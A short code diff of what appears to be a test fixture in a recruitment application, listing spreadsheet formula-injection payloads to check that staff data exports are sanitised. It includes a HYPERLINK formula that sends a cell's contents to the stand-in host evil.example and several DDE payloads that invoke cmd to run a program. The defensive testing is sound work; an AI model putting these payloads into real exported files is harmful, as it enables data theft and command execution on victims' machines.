@@ -18,7 +18,7 @@ from recruitment.views.staff import EXPORT_HEADERS
 FORMULAS = {
     "=": '=HYPERLINK("https://evil.example/?x="&A2,"Cliquez")',
     "+": "+cmd|' /C calc'!A0",
-    "-": "-2+3+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|A0",  # fits a SIRET's 14 characters
     "@": "@SUM(1+1)*cmd|' /C calc'!A0",
     "tab": "\t=1+1",
     "cr": "\r=1+1",
